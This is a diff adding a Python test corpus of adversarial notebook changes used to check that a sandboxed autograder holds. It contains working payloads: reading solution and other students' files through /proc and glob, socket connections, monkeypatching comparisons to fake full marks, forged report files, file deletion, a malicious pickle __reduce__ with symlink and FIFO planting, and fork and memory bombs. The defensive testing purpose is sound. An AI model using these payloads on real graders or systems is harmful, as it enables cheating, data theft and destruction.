@@ -1,0 +1,225 @@
+"""The adversarial corpus: what a student who wants points without the work might try.
+
+Each case is a change to a notebook (the solution or the stub) and the outcome it must have:
+the score can only be what the honest part of the notebook earns, the report is valid, the
+grade ends in bounded time and no process is left behind. `$name` placeholders are filled by
+the test with paths and ports outside the sandbox (see tests/test_sandbox.py):
+$pwned (must never come to exist), $canary and $victim_dir (must survive unchanged), $solutions (the real
+solutions folder), $other (another student's submission), $report (where the grader writes
+the report), $tcp_port / $udp_port (listeners of the test process).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+MAX = 18.0
+SOFTMAX_LOST = 9.0  # softmax's four checks plus the end-to-end check that trains with it
+CE_LOST = 6.0  # cross_entropy's two checks plus end to end
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    base: str  # "solution" or "stub"
+    replace: dict[str, str] = field(default_factory=dict)
+    append: list[str] = field(default_factory=list)
+    prepend: list[str] = field(default_factory=list)
+    max_score: float = MAX  # the report may not award more than this...
+    min_score: float = 0.0  # ...and the honest rest of the notebook still earns at least this
+    lost_status: tuple[str, ...] = ()  # statuses allowed for checks that lost points ('' = any not passed)
+    message: str = ""  # a phrase the lost checks' messages must contain
+    options: dict = field(default_factory=dict)
+    time_limit_s: float = 120.0
+    risky: bool = False  # only ever run where the sandbox's limits are active
+    via_cli: bool = False  # graded through `grade NB -o $report`
+
+
+# Reading what it must not read; on success it would define the solution's functions and earn
+# full marks from the stub, and leave a marker.
+STEAL = r'''
+import glob, json, os, pathlib
+stolen = None
+candidates = [
+    "$solutions/hw3.ipynb",                                   # absolute
+    os.path.relpath("$solutions/hw3.ipynb"),                  # relative to the scratch dir
+    f"/proc/{os.getppid()}/cwd/solutions/hw3.ipynb",          # through the grader's cwd
+    "/proc/self/root$solutions/hw3.ipynb",
+]
+try:
+    import grader                                             # walking up from the grader package
+    candidates.append(str(pathlib.Path(grader.__file__).resolve().parents[1] / "solutions" / "hw3.ipynb"))
+except Exception as exc:
+    print("no grader package:", exc)
+for root in ("/tmp", "/root", os.path.dirname("$solutions")):
+    try:
+        candidates += glob.glob(root + "/**/solutions/hw3.ipynb", recursive=True)[:5]
+    except OSError:
+        pass
+for path in candidates:
+    try:
+        stolen = json.load(open(path))
+        break
+    except Exception as exc:
+        print("denied:", path, type(exc).__name__)
+for path in ("$other", "$report"):
+    try:
+        open(path).read()
+        open("$pwned", "w").write("read " + path)
+    except Exception as exc:
+        print("denied:", path, type(exc).__name__)
+if stolen:
+    open("$pwned", "w").write("stole the solutions")
+    for cell in stolen["cells"]:
+        if cell["cell_type"] == "code":
+            exec("".join(cell["source"]), globals())
+'''
+
+CONNECT = r'''
+import socket
+for family, kind, address in [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $tcp_port)),
+                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", $tcp_port))]:
+    try:
+        s = socket.socket(family, kind)
+        s.settimeout(2)
+        s.connect(address)
+        s.sendall(b"PWNED")
+        print("connected to", address)
+    except OSError as exc:
+        print("denied:", address, exc)
+try:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b"PWNED", ("127.0.0.1", $udp_port))
+except OSError as exc:
+    print("udp denied:", exc)
+try:
+    socket.create_connection(("1.1.1.1", 53), timeout=2)
+    open("$pwned", "w").write("reached the internet")
+except OSError as exc:
+    print("denied: internet", exc)
+'''
+
+MONKEYPATCH = r'''
+import builtins, json, math, torch, numpy, safetensors.torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda *a, **k: True
+numpy.allclose = lambda *a, **k: True
+math.isclose = lambda *a, **k: True
+json.dumps = lambda *a, **k: '{"status": "ok", "values": {}, "score": 18}'
+json.loads = lambda *a, **k: {"status": "ok", "score": 18}
+builtins.isinstance = lambda *a: True
+builtins.print = lambda *a, **k: None
+safetensors.torch.save_file = lambda *a, **k: None
+'''
+
+FAKE_REPORTS = r'''
+import json, os
+fake = json.dumps({"assignment": "hw3", "score": 18, "max_score": 18, "status": "graded", "tests": [], "percent": 100})
+print(fake)
+for path in ("$report", "report.json", "../report.json", "../sandbox-status.json", "../probe-io/softmax_public.out"):
+    try:
+        open(path, "w").write(fake)
+        print("wrote", path)
+    except OSError as exc:
+        print("denied:", path, exc)
+'''
+
+DELETE = r'''
+import os, shutil
+for path in ("$canary", "$victim_dir", "../sandbox-policy.json", "../kernel.log", "../probe-io"):
+    try:
+        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
+        print("deleted", path)
+    except OSError as exc:
+        print("denied:", path, exc)
+try:
+    os.rename("$canary", "canary-stolen")
+except OSError as exc:
+    print("denied: rename", exc)
+try:
+    os.link("$canary", "canary-link")
+except OSError as exc:
+    print("denied: hard link", exc)
+'''
+
+# Plant symlinks, FIFOs and pickles wherever the grader reads or writes probe files.
+PLANT = r'''
+import glob, os, pickle, threading, time
+class Boom:
+    def __reduce__(self):
+        return (open, ("$pwned", "w"))
+payload = pickle.dumps(Boom())
+def plant():
+    while True:
+        for directory in glob.glob("/tmp/grader-*/probe-io") + glob.glob("../probe-io"):
+            for name in ("softmax_public", "cross_entropy_public", "accuracy_public"):
+                for suffix, make in ((".in", lambda p: os.symlink("$canary", p)),
+                                     (".out", lambda p: open(p, "wb").write(payload)),):
+                    path = os.path.join(directory, name + suffix)
+                    try:
+                        os.unlink(path)
+                    except OSError:
+                        pass
+                    try:
+                        make(path)
+                    except OSError:
+                        pass
+            try:
+                os.mkfifo(os.path.join(directory, "evaluate_public.out"))
+            except OSError:
+                pass
+        time.sleep(0.002)
+threading.Thread(target=plant, daemon=True).start()
+'''
+
+ORPHANS = r'''
+import os, subprocess, time
+subprocess.Popen(["sleep", "600"], start_new_session=True)
+if os.fork() == 0:          # a double-forked daemon in a session of its own
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(600)
+    os._exit(0)
+'''
+
+CASES = [
+    Case("endless loop", "solution", replace={"softmax": "def softmax(X):\n    while True:\n        pass"},
+         max_score=MAX - SOFTMAX_LOST, min_score=MAX - SOFTMAX_LOST, lost_status=("timeout",),
+         options={"cell_timeout_s": 5, "probe_timeout_s": 2}, time_limit_s=90),
+    Case("memory bomb", "solution",
+         replace={"softmax": "def softmax(X):\n    hog = []\n    while True:\n        hog.append(bytearray(256 << 20))"},
+         max_score=MAX - SOFTMAX_LOST, min_score=MAX - SOFTMAX_LOST, lost_status=("error", "failed", "timeout"),
+         options={"cell_timeout_s": 20, "probe_timeout_s": 10}, risky=True),
+    Case("memory bomb at top level", "solution", append=["hog = [bytearray(256 << 20) for _ in range(100)]"],
+         max_score=MAX, min_score=MAX, options={"cell_timeout_s": 30}, risky=True),
+    Case("fork bomb", "solution",
+         replace={"softmax": "import os\ndef softmax(X):\n    while True:\n        os.fork()"},
+         max_score=MAX - SOFTMAX_LOST, lost_status=("error", "failed", "timeout"),
+         options={"cell_timeout_s": 10, "probe_timeout_s": 5}, time_limit_s=240, risky=True),
+    Case("processes that escape their session", "solution", append=[ORPHANS], max_score=MAX, min_score=MAX,
+         risky=True),
+    Case("kernel exit: os._exit", "solution",
+         replace={"cross_entropy": "import os\ndef cross_entropy(y_hat, y):\n    os._exit(3)"},
+         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error",), message="died"),
+    Case("kernel exit: SystemExit", "solution",
+         replace={"cross_entropy": "import sys\ndef cross_entropy(y_hat, y):\n    sys.exit(0)"},
+         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error", "failed")),
+    Case("kernel exit: exit() at top level", "solution", append=["exit()"], max_score=MAX),
+    Case("segfault", "solution",
+         replace={"cross_entropy": "import ctypes\ndef cross_entropy(y_hat, y):\n    ctypes.string_at(0)"},
+         max_score=MAX - CE_LOST, min_score=MAX - CE_LOST, lost_status=("error",), message="died"),
+    Case("50 MB of output", "solution",
+         append=["print('x' * 50_000_000)", "import sys\nfor i in range(200_000):\n    sys.stdout.write('%d spam spam spam spam\\n' % i)"],
+         max_score=MAX, min_score=MAX, time_limit_s=120),
+    Case("reading solutions, other submissions and reports", "stub", append=[STEAL], max_score=0.0),
+    Case("connecting to local ports", "solution", append=[CONNECT], max_score=MAX, min_score=MAX),
+    Case("monkeypatching torch, json and builtins", "stub", prepend=[MONKEYPATCH], max_score=0.0),
+    Case("monkeypatching on a wrong solution", "solution",
+         replace={"softmax": "def softmax(X):\n    return X / X.sum(dim=1, keepdim=True)"}, prepend=[MONKEYPATCH],
+         max_score=MAX - SOFTMAX_LOST),
+    Case("writing fake reports", "stub", append=[FAKE_REPORTS], max_score=0.0, via_cli=True),
+    Case("deleting files", "solution", append=[DELETE], max_score=MAX, min_score=MAX),
+    Case("pickle payloads, symlinks and FIFOs where the grader reads results", "solution", prepend=[PLANT],
+         max_score=MAX, lost_status=("error", "failed"), time_limit_s=180),
+]
